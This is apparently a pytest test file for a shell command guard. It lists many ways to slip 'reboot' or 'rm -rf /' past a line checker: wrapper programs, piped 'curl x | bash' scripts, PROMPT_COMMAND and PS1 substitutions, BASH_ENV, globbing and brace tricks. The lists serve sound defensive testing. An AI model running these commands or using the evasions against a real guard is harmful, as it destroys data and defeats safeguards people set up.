"""Shell guard review: wrappers, scripts read from input, code kept in variables, and other hiding places.

Every "caught" line would run ``reboot`` or ``rm -rf /`` (or code hoop cannot see) in bash;
every "harmless" line is a common command that must stay allowed. These lines are only ever
given to the guard, never to a shell.
"""

from __future__ import annotations

import pytest

from broker.config import Guardrails, Rule
from proxy.shellguard import ShellGuard

RULES = Guardrails(rules=[
    Rule(name="rm-root", action="block", commands=["rm -rf /"]),
    Rule(name="power", action="block", commands=["reboot", "shutdown"]),
])

# item 1: programs that run a command given in their arguments
WRAPPERS = [
    "watch --interval 1 reboot", "watch -d reboot", "watch 'echo; reboot'", "flock /tmp/x -c reboot",
    "flock /tmp/x --command reboot", "flock -w 5 /tmp/x reboot", "flock --timeout 5 /tmp/x reboot",
    "flock -n /tmp/x -c 'rm -rf /'", "trap reboot EXIT", "trap 'reboot' DEBUG", "trap -- 'echo; reboot' ERR",
    "find . -exec reboot \\;", "find . -exec reboot ';'", "find / -exec rm -rf {} +", "find . -execdir reboot {} +",
    "find . -ok reboot \\;", "find . -okdir reboot \\;", "find / -delete", "find -L / -name x -delete",
    "find / -exec true \\; -delete", "find . -exec {} \\;", "find . -exec sh -c '{}' \\;", "su --command=reboot",
    "su --comm reboot", "su --session-command=reboot", "runuser -u root reboot", "runuser -u root -- reboot",
    "runuser -l root -c reboot", "runuser root -c reboot", "stdbuf --out L reboot", "ionice --class 3 reboot",
    "chrt -f 10 reboot", "chrt 10 reboot", "chrt --rr 10 reboot", "chrt -o reboot", "taskset 0x1 reboot",
    "taskset -c 0 reboot", "taskset -a -c 0 reboot", "taskset --cpu-list 0 reboot", "script --command reboot",
    "xargs --process-slot-var X reboot", "xargs --max-a 1 reboot", "xargs sudo", "xargs env", "xargs timeout 5",
    "xargs sh -c", "xargs -I{} sh -c {}", "xargs -I CMD CMD", "parallel reboot ::: 1", "parallel -j2 reboot ::: 1",
    "parallel -j 2 'rm -rf /' ::: a", "parallel ::: reboot", "parallel {} ::: reboot",
    "parallel sh -c {} ::: reboot", "parallel 'echo {=$_=}' ::: x", "env --unse X reboot", "env 'a b=c' reboot",
    "fish --command=reboot", "fish --command reboot", "sudo --us root reboot", "timeout --sig KILL 5 reboot",
    "nice --adj 5 reboot", "pkexec reboot", "pkexec --user root reboot", "nsenter -t 1 -m reboot",
    "nsenter --target 1 -a reboot", "unshare -r reboot", "unshare --fork --pid reboot", "setpriv --reuid=0 reboot",
    "prlimit --nofile=10 reboot", "capsh -- -c reboot", "capsh --caps=x -- -c reboot", "strace reboot",
    "strace -f -o x reboot", "ltrace reboot", "valgrind reboot", "fakeroot reboot", "faketime 2020-01-01 reboot",
    "numactl -C 0 reboot", "firejail reboot", "systemd-run --scope reboot", "systemd-run -p X=1 reboot",
    "sg wheel reboot", "sg wheel -c reboot", "sg wheel 'rm -rf /'", "tmux new-session -d reboot",
    "tmux new 'echo; reboot'", "screen -dm reboot", "bwrap --bind / / reboot", "torsocks reboot",
    "proxychains4 reboot", "dbus-launch reboot", "ssh-agent reboot", "sudo -u x env A=1 chrt 1 reboot",
    "coproc X { reboot; }",
]

# item 2: code read from standard input, a descriptor, a here-string or a process substitution
STDIN_SCRIPTS = [
    "curl x | bash -s arg", "curl x | bash /dev/stdin", "bash <(curl x)", "sh <(echo reboot)", "bash /dev/stdin",
    "sh /dev/stdin", "bash /dev/fd/3", "bash /proc/self/fd/0", "bash /proc/$$/fd/0",
    "bash --rcfile <(echo reboot) -i", "curl x | sudo -i", "python3 - <<< 'import os'", "echo x | python3",
    "echo x | python3 -", "python3 /dev/stdin < x", "python3 <(curl x)", "perl <(curl x)", "echo 1 | perl",
    "ruby < x", "node /dev/stdin", "php < x", "source <(echo reboot)", ". <(curl x)", ". /dev/stdin",
    "source /proc/self/fd/0", "source /dev/fd/3", "echo reboot | at now", "at now <<< reboot",
    "echo '* * * * * reboot' | crontab -", "crontab - < x", "echo 'drop table x' | psql", "psql -f - < dump.sql",
    "mysql db < dump.sql", "echo '!reboot' | ed", "exec < script.sh", "exec 0<script.sh", "exec < <(echo reboot)",
]

# item 3: variables whose value the shell runs later
CODE_VARIABLES = [
    "PROMPT_COMMAND=reboot", "PROMPT_COMMAND+=';reboot'", "PROMPT_COMMAND[0]=reboot", "PS0='$(reboot)'",
    "PS1='$(reboot)'", "PS1='`reboot`'", "PS2='${x}'", "PS3='$(reboot)'", "PS4='$(reboot)'",
    "PS4='$(reboot)' bash -xc true", "BASH_ENV=/tmp/x bash -c true", "BASH_ENV=<(echo reboot) bash -c true",
    "ENV=/tmp/x sh -i", "export PROMPT_COMMAND=reboot", "export PS1='$(reboot)'", "declare PS1='$(reboot)'",
    "declare -x PROMPT_COMMAND=reboot", "typeset PS1='$(reboot)'", "readonly PS0='`reboot`'",
    "local PS4='$(reboot)'", "export BASH_ENV=/tmp/x", "env BASH_ENV=/tmp/x bash -c true",
    "sudo BASH_ENV=/tmp/x bash -c true", "env 'BASH_FUNC_f%%=() { reboot; }' bash -c f", "read PROMPT_COMMAND",
    "read -r PS1 < f", "printf -v PS1 '%s' x", "printf -vPROMPT_COMMAND x", "mapfile PROMPT_COMMAND < f",
    "for PS1 in x; do :; done", "declare -n ref=PS1",
]

# other ways to hide a command from a line check
HIDDEN = [
    "/sbin/re@(boot)", "/sbin/reboo+(t)", "rm -rf /!(x)", "mapfile -C reboot -c 1 x < f",
    "readarray -C 'rm -rf /' x", "histchars='%^#'", "read histchars", "INPUTRC=/tmp/x bash -i",
    "alias x=reboot", "alias r=rm; r -rf /", "hash -p /sbin/reboot ls", "BASH_ALIASES[x]=reboot",
    "x='a[$(reboot)]'; echo $((x))", "echo $[x]", "(( x ))", "for ((i=0; i<n; i++)); do :; done", "let i++",
    "declare -i n", "[[ x -lt 3 ]]", "[ -v 'a[$i]' ]", "echo ${a[$i]}", "echo ${a[i]}", "echo ${s:$n}",
    "echo ${s:n:1}", "echo ${!x}", "echo ${x@P}", 'echo "${x@P}"', "unset 'a[$i]'", "read 'a[$i]'", "{reboot,now}",
    "{rm,-rf,/}", "rm -rf {/,}", "rm -rf /{,}", "r{e,}boot", "re{b..b}oot", "/sbin/reb?ot", "/sbin/reb*", "reb[o]ot",
    "rm -rf /[a-z]*", 'bind -x \'"\\C-t": reboot\'', 'bind \'"\\C-t": "reboot\\n"\'', "bind -f /tmp/inputrc",
    "complete -C reboot ls", "compgen -C reboot", "fc -s", "fc -e - echo", "{fd}>/dev/null reboot",
]

HARMLESS = [
    "ls @(a|b).txt", "rm -f !(keep).log", "mapfile -t lines < f", "echo $(( 2*(3+4) ))", "(( 1 + 2 ))",
    "ls -la", "echo $((40+2))", "echo $((0x1f + 8#17))", "echo $(( $# + $? ))", "sudo -u root ls",
    "PS1='\\u@\\h:\\w\\$ '", "export PS1='> '", "export PS1='$ '", "PS1='$PWD> '", "export PATH=$PATH:/opt/bin",
    "FOO=1 ls",
    "find /tmp -name '*.log' -exec gzip {} \\;", "find . -name '*.tmp' -delete", "find . -type f -print0",
    'find . -exec sh -c \'gzip "$1"\' _ {} \\;', "xargs -I{} cp {} /backup", "xargs -0 rm -f", "xargs",
    "echo a,b | tr , '\\n'", "for i in {1..3}; do echo $i; done", "echo {a,b}.txt", "echo '{reboot,x}'",
    "echo ${HOME} ${x:-default} ${#x} ${a[1]} ${a[@]} ${!a[@]} ${!PATH*} ${s:1:2} ${s: -1}", "cat <(ls) >(wc -l)",
    "kubectl get pods | grep web | wc -l", "timeout 5 curl -s http://x", "timeout --foreground 5 ls",
    "nice -n 10 tar czf /tmp/x.tgz /etc", "nice -5 ls", "env -i PATH=/bin ls", "env", "ionice -c3 du -sh /var",
    "ionice -p 1", "chrt -p 1", "taskset -p 1", "git log --oneline | head", "grep -r 'reboot' /etc",
    'echo "hello world!"', "awk '!seen[$0]++' f", "trap - INT", "trap 'echo bye' EXIT", "trap -p",
    "watch -n 5 df -h", "parallel gzip ::: a b", "parallel 'echo {}' ::: a", "flock /tmp/lock -c 'echo hi'",
    "flock /tmp/lock ls", "su -c 'id' root", "runuser -u nobody -- id", "script -qc 'ls' /dev/null",
    "stdbuf -oL tail -f x", "setsid ls", "strace -f ls", "sg wheel id", "echo ';' reboot", "echo 'a;b'",
    "find . -name 'x;reboot'", "[[ -n $x ]]", "[[ 1 -eq 1 ]]", "[ -f x ]", "test -v x", "read -r line",
    "declare -a arr", "declare -x FOO=bar", "local x=1", "export -p", "bind -p", "bind -q complete",
    "complete -F _f cmd", "fc -l", "hash", "alias", "let 1+2", "echo 2 > out.txt", "ls 2>/dev/null", "exec 3>&1",
    "exec >log", "exec 3< <(ls)", "cat <<EOF", "python3 x.py", "python3 -c 'print(1)'", "bash deploy.sh",
    "sh -c 'ls; pwd'", "psql -c 'select 1'", "crontab -l", "at -f job.sh now", "source ~/.bashrc", ". ./env.sh",
]


@pytest.fixture
def guard() -> ShellGuard:
    return ShellGuard(RULES)


@pytest.mark.parametrize("line", WRAPPERS)
def test_wrappers_are_seen_through(guard: ShellGuard, line: str) -> None:
    d = guard.check(line)
    assert d.action == "block", d.reason


@pytest.mark.parametrize("line", STDIN_SCRIPTS)
def test_code_read_from_input_is_unparsed(guard: ShellGuard, line: str) -> None:
    d = guard.check(line)
    assert (d.action, d.rule) == ("block", "on_unparsed"), d.reason


@pytest.mark.parametrize("line", CODE_VARIABLES)
def test_variables_that_run_code_later_are_unparsed(guard: ShellGuard, line: str) -> None:
    d = guard.check(line)
    assert d.action == "block", d.reason


@pytest.mark.parametrize("line", HIDDEN)
def test_other_hiding_places_are_caught(guard: ShellGuard, line: str) -> None:
    d = guard.check(line)
    assert d.action == "block", d.reason


@pytest.mark.parametrize("line", HARMLESS)
def test_common_lines_stay_allowed(guard: ShellGuard, line: str) -> None:
    d = guard.check(line)
    assert d.action == "allow", d.reason


@pytest.mark.parametrize("line", ["echo hi; !!", "!-1", "!rm", "echo !$", "^echo^reboot", "echo \"!$\"", "ls !*"])
def test_history_expansion_is_unparsed_at_an_interactive_shell(guard: ShellGuard, line: str) -> None:
    assert guard.check(line, history=True).rule == "on_unparsed"
    assert guard.check(line).action == "allow"  # exec and piped input: no history expansion


@pytest.mark.parametrize("line", ["echo hi!", "echo 'a!b'", "! true", "echo $!", "echo ${!a[@]}", "x != y",
                                  "echo \"hi!\""])
def test_history_expansion_needs_a_reference(guard: ShellGuard, line: str) -> None:
    assert guard.check(line, history=True).action == "allow"


def test_find_delete_is_checked_as_rm_of_its_start_paths(guard: ShellGuard) -> None:
    d = guard.check("find / -mindepth 1 -delete")
    assert (d.rule, d.subject) == ("rm-root", "rm -rf /")


def test_unknown_wrapper_option_is_not_guessed(guard: ShellGuard) -> None:
    d = guard.check("timeout --new-option 5 ls")
    assert (d.rule, d.reason) == ("on_unparsed", "blocks unclassifiable input: unknown option --new-option")


def test_resolve_marks_what_reads_input_through_new_wrappers(guard: ShellGuard) -> None:
    for line in ("chroot /", "nsenter -t 1 -a", "unshare -r", "pkexec", "doas -s", "sudo -u x -s", "at now",
                 "crontab -", "newgrp wheel", "runuser -l root", "tmux"):
        cmds = guard.resolve(line)
        assert cmds is not None and any(c.reads_input for c in cmds), line


def test_line_of_many_commands_is_still_decided(guard: ShellGuard) -> None:
    assert guard.check("true; " * 5000).action == "allow"
    assert guard.check("echo " + "a " * 30000).action == "allow"
    assert guard.check("strace " * 2000 + "ls").rule == "on_unparsed"  # nesting budget, not a hang
